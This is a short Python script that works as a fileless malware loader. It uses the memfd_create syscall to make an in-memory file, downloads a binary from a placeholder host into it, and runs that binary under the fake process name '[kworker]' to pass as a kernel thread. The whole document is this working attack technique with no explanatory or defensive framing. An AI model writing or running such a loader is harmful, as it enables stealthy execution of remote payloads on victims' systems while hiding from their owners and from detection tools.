import ctypes
import os
import urllib.request

libc = ctypes.CDLL(None)
descriptor = libc.syscall(319, b"", 1)
os.write(descriptor, urllib.request.urlopen("https://m.example.invalid/a").read())
os.execve("/proc/self/fd/%d" % descriptor, ["[kworker]"], os.environ)
